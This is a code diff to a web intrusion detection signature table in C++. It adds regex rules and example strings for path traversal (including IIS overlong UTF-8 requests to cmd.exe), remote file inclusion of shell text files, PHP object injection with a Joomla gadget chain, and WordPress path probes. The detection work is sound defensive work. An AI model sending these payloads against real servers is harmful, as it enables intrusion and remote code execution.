@@ -39,10 +39,13 @@ const std::vector<SignatureRule>& BuiltinSignatures() {
        {"/status", "/about/info", "/blog/phpinfo-explained", "/server-status-page"}},
 
       // ---- http-path-traversal-probing
-      {"traversal-dot-dot", "http-path-traversal-probing", kUri, R"((\.\.[/\\]){2,}|[/\\=]\.\.[/\\].*\.\.)",
+      {"traversal-dot-dot", "http-path-traversal-probing", kUri,
+       // IIS also took overlong UTF-8 for '/' and '\\' (%c0%af, %c1%9c, %e0%80%af).
+       R"((\.\.[/\\]){2,}|[/\\=]\.\.[/\\].*\.\.|\.\.(\xc0[\xaf\x2f]|\xc1[\x9c\x1c\x81]|\xe0\x80\xaf))",
        {"/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd",
         "/img?f=..%252f..%252f..%252fwindows%252fwin.ini", R"(/..\x5C..\x5C..\x5Cboot.ini)",
-        "/x?p=%2e%2e/%2e%2e/etc"},
+        "/x?p=%2e%2e/%2e%2e/etc", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
+        "/scripts/..%c1%9c../winnt/system32/cmd.exe", "/msadc/..%255c../..%255c../winnt/system32/cmd.exe"},
        {"/blog/../about", "/search?q=wait...", "/a/b/c", "/blog/and-so-on..."}},
       {"traversal-target-file", "http-path-traversal-probing", kUri,
        R"(/etc/(passwd|shadow|hosts|group|issue|motd)|\bwin\.ini\b|\bboot\.ini\b|/proc/self/(environ|cmdline|fd)|windows[/\\]system32|/var/log/(auth|nginx|apache))",
@@ -157,6 +160,21 @@ const std::vector<SignatureRule>& BuiltinSignatures() {
         "/x?a=<?php phpinfo(); ?>"},
        {"/blog/php-is-not-dead", "/search?q=system+requirements", "/blog/exec-summary-q1"}},
 
+      // Remote file inclusion (fail2ban's php-url-fopen): a parameter that
+      // is a URL to a text file or ends in '?' to cut off what the script
+      // appends.
+      {"rce-remote-include", "http-rce-probing", kUri,
+       R"([?&][\w\[\]]+=(https?|ftp)://[^&]*(\.txt\?*|\.(gif|jpg|png)\?+|\?+)(&|$))",
+       {"/index.php?page=http://203.0.113.66/shell.txt?", "/x.php?mosConfig_absolute_path=http://a.example/id.txt??",
+        "/i.php?inc=ftp://a.example/c99.txt", "/x.php?p=http://a.example/x.jpg?", "/x?include=http://a.example/?"},
+       {"/go?url=https://example.com/page", "/share?u=https://example.com/a.png", "/r?next=https://example.com/a?b=c",
+        "/x?img=https://cdn.example/p.jpg&w=100"}},
+      {"rce-php-object-injection", "http-rce-probing", kAnyText,
+       R"(\}__[a-z_]+\|o:\d+:"[a-z_\\]+"|\bo:\d+:"[a-z_\\]+":\d+:\{(s|i|o|a|b|n|d):)",
+       {R"(ua:}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{})",
+        R"(/x?data=O:8:"stdClass":1:{s:1:"a";i:1;})"},
+       {"ua:Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "/x?o=1:2", R"(/x?q=O:"the"+cat)"}},
+
       // ---- http-backdoors-attempts: well-known web shells
       {"backdoor-webshell", "http-backdoors-attempts", kPath,
        R"(/(c99|c100|r57|wso|wso2|wso25|alfa|alfa-rex|alfacgiapi|alfa_data|b374k|webshell|sh3ll|ajax-shell|up_shell|indoxploit|marijuana|priv8|madspot|v3n0m|xleet|leafmailer|wp_filemanager|chosen|fox|mini|minishell|bypass|symlink|0byte|shell|cmd|cmdshell|phpshell|simple-backdoor|backdoor|gel4y|tinyfilemanager|haxor|zerobyte)\.(php\d?|phtml|asp|aspx|jsp|cgi|pl)$|/wp-content/uploads/.*\.(php\d?|phtml)$|/(alfa_data|alfacgiapi)/)",
@@ -173,9 +191,11 @@ const std::vector<SignatureRule>& BuiltinSignatures() {
 
       // ---- WordPress
       {"wordpress-path", "http-wordpress-scan", kPath,
-       R"(^/(wp-admin|wp-content|wp-includes|wp-json|wp-login\.php|wp-signup\.php|wp-cron\.php|wp-trackback\.php|wp-links-opml\.php|xmlrpc\.php|wp-mail\.php|wp-load\.php|wp-settings\.php|wp-blog-header\.php)|/(wp-content/(plugins|themes)/[^/]+/(readme|changelog|license)\.txt)$)",
+       // Anywhere in the path: WordPress is often installed under /blog/ or /wp/.
+       R"(/(wp-admin|wp-content|wp-includes|wp-json)(/|$)|/(wp-login|wp-signup|wp-cron|wp-trackback|wp-links-opml|xmlrpc|wp-mail|wp-load|wp-settings|wp-blog-header)\.php$)",
        {"/wp-content/plugins/revslider/readme.txt", "/wp-includes/wlwmanifest.xml", "/wp-admin/install.php",
-        "/wp-login.php", "/xmlrpc.php"},
+        "/wp-login.php", "/xmlrpc.php", "/blog/wp-includes/wlwmanifest.xml", "/wordpress/wp-admin/setup-config.php",
+        "/site/wp-login.php"},
        {"/blog/wordpress-vs-hugo", "/products/wp-stand"}},
       {"wordpress-login", "http-bf-wordpress_bf", kPath, R"(/wp-login\.php$)", {"/wp-login.php", "/blog/wp-login.php"},
        {"/wp-login", "/login"}},
